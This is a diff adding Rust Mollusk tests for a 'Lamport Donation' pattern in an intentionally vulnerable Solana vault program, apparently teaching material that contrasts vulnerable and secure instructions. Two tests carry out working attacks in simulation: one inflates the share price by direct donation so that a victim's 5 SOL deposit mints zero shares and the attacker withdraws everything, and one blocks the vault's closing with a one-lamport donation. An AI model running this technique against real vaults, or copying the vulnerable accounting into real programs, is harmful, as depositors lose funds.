@@ -0,0 +1,376 @@
+// Mollusk tests for Pattern 44
+/// # Pattern 44: Lamport Donation — Mollusk Exploit Tests
+///
+/// The vault starts empty, and Mallory and Alice each have a position with
+/// no shares. Donations are plain System Program transfers to the vault.
+///
+/// - Test 1: EXPLOIT — Mallory deposits 1 lamport and donates 10 SOL.
+///   Alice's 5 SOL through deposit_vulnerable mints 0 shares, and
+///   Mallory's 1 share withdraws all 15 SOL.
+/// - Test 2: SECURE — the same moves through the secure instructions mint
+///   Alice her 5 SOL of shares, and Mallory's 1 share withdraws 1 lamport.
+/// - Test 3: EXPLOIT — after every depositor has left, a 1 lamport
+///   donation makes close_vulnerable fail.
+/// - Test 4: SECURE — close_secure closes the same vault and pays the
+///   admin the rent and the donation.
+use mollusk_svm::{result::Check, Mollusk};
+use solana_sdk::{
+    account::AccountSharedData,
+    instruction::{AccountMeta, Instruction},
+    program_error::ProgramError,
+    pubkey::Pubkey,
+    rent::Rent,
+};
+use test_harness::{
+    account_discriminator, executable_account, ix_discriminator, owned_account, Ledger,
+};
+
+const PROGRAM_ID: Pubkey = solana_sdk::pubkey!("BLSEnoWpTSSha8c85Ug3i7dco1Pq4cmuydvYNmxawyNv");
+
+const WALLET: u64 = 20_000_000_000;
+const SOL: u64 = 1_000_000_000;
+
+/// 8 discriminator + 32 admin + 8 total_shares + 8 total_assets + 1 bump.
+const VAULT_LEN: usize = 57;
+/// 8 discriminator + 32 owner + 8 shares + 1 bump.
+const POSITION_LEN: usize = 49;
+
+const DONATION: u64 = 10 * SOL;
+const DEPOSIT: u64 = 5 * SOL;
+
+/// ErrorCode::VaultNotEmpty
+const VAULT_NOT_EMPTY: u32 = 6000;
+
+// ---------------------------------------------------------------------------
+// Helpers
+// ---------------------------------------------------------------------------
+
+/// [8 disc][32 admin][8 total_shares][8 total_assets][1 bump]
+fn serialize_vault(admin: &Pubkey, total_shares: u64, total_assets: u64, bump: u8) -> Vec<u8> {
+    let mut data = Vec::with_capacity(VAULT_LEN);
+    data.extend_from_slice(&account_discriminator("Vault"));
+    data.extend_from_slice(admin.as_ref());
+    data.extend_from_slice(&total_shares.to_le_bytes());
+    data.extend_from_slice(&total_assets.to_le_bytes());
+    data.push(bump);
+    data
+}
+
+/// [8 disc][32 owner][8 shares][1 bump]
+fn serialize_position(owner: &Pubkey, shares: u64, bump: u8) -> Vec<u8> {
+    let mut data = Vec::with_capacity(POSITION_LEN);
+    data.extend_from_slice(&account_discriminator("Position"));
+    data.extend_from_slice(owner.as_ref());
+    data.extend_from_slice(&shares.to_le_bytes());
+    data.push(bump);
+    data
+}
+
+fn program_account(data: &[u8]) -> AccountSharedData {
+    let lamports = Rent::default().minimum_balance(data.len());
+    owned_account(data, lamports, &PROGRAM_ID)
+}
+
+fn system_account() -> AccountSharedData {
+    AccountSharedData::new(WALLET, 0, &solana_sdk::system_program::ID)
+}
+
+/// A depositor and their position PDA.
+struct User {
+    key: Pubkey,
+    position: Pubkey,
+    bump: u8,
+}
+
+impl User {
+    fn new() -> Self {
+        let key = Pubkey::new_unique();
+        let (position, bump) =
+            Pubkey::find_program_address(&[b"position", key.as_ref()], &PROGRAM_ID);
+        Self {
+            key,
+            position,
+            bump,
+        }
+    }
+
+    fn position_data(&self, shares: u64) -> Vec<u8> {
+        serialize_position(&self.key, shares, self.bump)
+    }
+}
+
+struct Setup {
+    mollusk: Mollusk,
+    vault: Pubkey,
+    vault_bump: u8,
+    admin: Pubkey,
+    mallory: User,
+    alice: User,
+    ledger: Ledger,
+}
+
+impl Setup {
+    /// An empty vault, and a position with no shares for each of Mallory
+    /// and Alice.
+    fn new() -> Self {
+        let mollusk = Mollusk::new(&PROGRAM_ID, "lamport_donation");
+        let admin = Pubkey::new_unique();
+        let (vault, vault_bump) = Pubkey::find_program_address(&[b"vault"], &PROGRAM_ID);
+        let mallory = User::new();
+        let alice = User::new();
+
+        let ledger = vec![
+            (
+                vault,
+                program_account(&serialize_vault(&admin, 0, 0, vault_bump)),
+            ),
+            (admin, system_account()),
+            (mallory.key, system_account()),
+            (mallory.position, program_account(&mallory.position_data(0))),
+            (alice.key, system_account()),
+            (alice.position, program_account(&alice.position_data(0))),
+            (
+                solana_sdk::system_program::ID,
+                executable_account(&solana_sdk::native_loader::id()),
+            ),
+        ];
+
+        Self {
+            mollusk,
+            vault,
+            vault_bump,
+            admin,
+            mallory,
+            alice,
+            ledger: Ledger::new(ledger),
+        }
+    }
+
+    fn vault_rent() -> u64 {
+        Rent::default().minimum_balance(VAULT_LEN)
+    }
+
+    fn vault_data(&self, total_shares: u64, total_assets: u64) -> Vec<u8> {
+        serialize_vault(&self.admin, total_shares, total_assets, self.vault_bump)
+    }
+
+    /// deposit_vulnerable or deposit_secure, by `user`.
+    fn deposit(&self, name: &str, user: &User, amount: u64) -> Instruction {
+        let mut data = ix_discriminator(name).to_vec();
+        data.extend_from_slice(&amount.to_le_bytes());
+        Instruction::new_with_bytes(
+            PROGRAM_ID,
+            &data,
+            vec![
+                AccountMeta::new(self.vault, false),
+                AccountMeta::new(user.position, false),
+                AccountMeta::new(user.key, true),
+                AccountMeta::new_readonly(solana_sdk::system_program::ID, false),
+            ],
+        )
+    }
+
+    /// withdraw_vulnerable or withdraw_secure, by `user`.
+    fn withdraw(&self, name: &str, user: &User, shares: u64) -> Instruction {
+        let mut data = ix_discriminator(name).to_vec();
+        data.extend_from_slice(&shares.to_le_bytes());
+        Instruction::new_with_bytes(
+            PROGRAM_ID,
+            &data,
+            vec![
+                AccountMeta::new(self.vault, false),
+                AccountMeta::new(user.position, false),
+                AccountMeta::new(user.key, true),
+            ],
+        )
+    }
+
+    /// close_vulnerable or close_secure, by the admin.
+    fn close(&self, name: &str) -> Instruction {
+        Instruction::new_with_bytes(
+            PROGRAM_ID,
+            &ix_discriminator(name),
+            vec![
+                AccountMeta::new(self.vault, false),
+                AccountMeta::new(self.admin, true),
+            ],
+        )
+    }
+
+    /// A plain System Program transfer from Mallory to the vault. The
+    /// vault program is never invoked.
+    fn donate(&self, lamports: u64) -> Instruction {
+        // SystemInstruction::Transfer: [4 index = 2][8 lamports]
+        let mut data = 2u32.to_le_bytes().to_vec();
+        data.extend_from_slice(&lamports.to_le_bytes());
+        Instruction::new_with_bytes(
+            solana_sdk::system_program::ID,
+            &data,
+            vec![
+                AccountMeta::new(self.mallory.key, true),
+                AccountMeta::new(self.vault, false),
+            ],
+        )
+    }
+}
+
+// ---------------------------------------------------------------------------
+// Tests
+// ---------------------------------------------------------------------------
+
+#[test]
+fn exploit_donation_inflates_share_price_vulnerable() {
+    // -----------------------------------------------------------------------
+    // EXPLOIT: Mallory
+    //   1. calls deposit_vulnerable with 1 lamport: 1 share
+    //   2. transfers 10 SOL straight to the vault
+    //   then Alice calls deposit_vulnerable with 5 SOL, and Mallory
+    //   3. calls withdraw_vulnerable for the 1 share
+    //
+    // Expected: all SUCCEED. Alice's deposit mints 5 SOL * 1 / 10 SOL = 0
+    //           shares, and Mallory's 1 share pays out all 15 SOL.
+    // -----------------------------------------------------------------------
+    let mut s = Setup::new();
+    let (vault, mallory, alice) = (s.vault, s.mallory.key, s.alice.key);
+    let (mallory_position, alice_position) = (s.mallory.position, s.alice.position);
+    let rent = Setup::vault_rent();
+
+    let ix = s.deposit("deposit_vulnerable", &s.mallory, 1);
+    let one_share = s.mallory.position_data(1);
+    s.ledger.step(
+        &s.mollusk,
+        &ix,
+        &[
+            Check::success(),
+            Check::account(&mallory_position).data(&one_share).build(),
+        ],
+    );
+
+    let ix = s.donate(DONATION);
+    s.ledger.step(
+        &s.mollusk,
+        &ix,
+        &[
+            Check::success(),
+            Check::account(&vault).lamports(rent + 1 + DONATION).build(),
+        ],
+    );
+
+    let ix = s.deposit("deposit_vulnerable", &s.alice, DEPOSIT);
+    let no_shares = s.alice.position_data(0);
+    s.ledger.step(
+        &s.mollusk,
+        &ix,
+        &[
+            Check::success(),
+            Check::account(&alice_position).data(&no_shares).build(),
+            Check::account(&alice).lamports(WALLET - DEPOSIT).build(),
+        ],
+    );
+
+    let ix = s.withdraw("withdraw_vulnerable", &s.mallory, 1);
+    let drained = s.vault_data(0, 0);
+    s.ledger.step(
+        &s.mollusk,
+        &ix,
+        &[
+            Check::success(),
+            Check::account(&vault).lamports(rent).data(&drained).build(),
+            Check::account(&mallory).lamports(WALLET + DEPOSIT).build(),
+        ],
+    );
+}
+
+#[test]
+fn secure_ledger_ignores_donation() {
+    // -----------------------------------------------------------------------
+    // SECURE: the same moves through deposit_secure and withdraw_secure
+    //
+    // Expected: all SUCCEED. The donation doesn't move the price: Alice's
+    //           5 SOL mints 5,000,000,000 shares, and Mallory's 1 share
+    //           pays out 1 lamport. The 10 SOL stays in the vault.
+    // -----------------------------------------------------------------------
+    let mut s = Setup::new();
+    let (vault, mallory) = (s.vault, s.mallory.key);
+    let alice_position = s.alice.position;
+    let rent = Setup::vault_rent();
+
+    let ix = s.deposit("deposit_secure", &s.mallory, 1);
+    s.ledger.step(&s.mollusk, &ix, &[Check::success()]);
+
+    let ix = s.donate(DONATION);
+    s.ledger.step(&s.mollusk, &ix, &[Check::success()]);
+
+    let ix = s.deposit("deposit_secure", &s.alice, DEPOSIT);
+    let alice_shares = s.alice.position_data(DEPOSIT);
+    s.ledger.step(
+        &s.mollusk,
+        &ix,
+        &[
+            Check::success(),
+            Check::account(&alice_position).data(&alice_shares).build(),
+        ],
+    );
+
+    let ix = s.withdraw("withdraw_secure", &s.mallory, 1);
+    let after = s.vault_data(DEPOSIT, DEPOSIT);
+    s.ledger.step(
+        &s.mollusk,
+        &ix,
+        &[
+            Check::success(),
+            Check::account(&vault)
+                .lamports(rent + DONATION + DEPOSIT)
+                .data(&after)
+                .build(),
+            Check::account(&mallory).lamports(WALLET - DONATION).build(),
+        ],
+    );
+}
+
+#[test]
+fn exploit_donation_blocks_close_vulnerable() {
+    // -----------------------------------------------------------------------
+    // EXPLOIT: with no shares outstanding, Mallory transfers 1 lamport to
+    //          the vault, then the admin calls close_vulnerable
+    //
+    // Expected: the close FAILS with VaultNotEmpty (6000), and keeps
+    //           failing for as long as the lamport is there: nothing can
+    //           take it out.
+    // -----------------------------------------------------------------------
+    let mut s = Setup::new();
+
+    let ix = s.donate(1);
+    s.ledger.step(&s.mollusk, &ix, &[Check::success()]);
+
+    let ix = s.close("close_vulnerable");
+    s.ledger.step(&s.mollusk, &ix, &[Check::err(ProgramError::Custom(VAULT_NOT_EMPTY))]);
+}
+
+#[test]
+fn secure_close_checks_shares() {
+    // -----------------------------------------------------------------------
+    // SECURE: with no shares outstanding, Mallory transfers 1 lamport to
+    //         the vault, then the admin calls close_secure
+    //
+    // Expected: SUCCEEDS. The vault is closed, and the admin receives its
+    //           rent and the donated lamport.
+    // -----------------------------------------------------------------------
+    let mut s = Setup::new();
+    let (vault, admin) = (s.vault, s.admin);
+    let rent = Setup::vault_rent();
+
+    let ix = s.donate(1);
+    s.ledger.step(&s.mollusk, &ix, &[Check::success()]);
+
+    let ix = s.close("close_secure");
+    s.ledger.step(
+        &s.mollusk,
+        &ix,
+        &[
+            Check::success(),
+            Check::account(&vault).lamports(0).build(),
+            Check::account(&admin).lamports(WALLET + rent + 1).build(),
+        ],
+    );
+}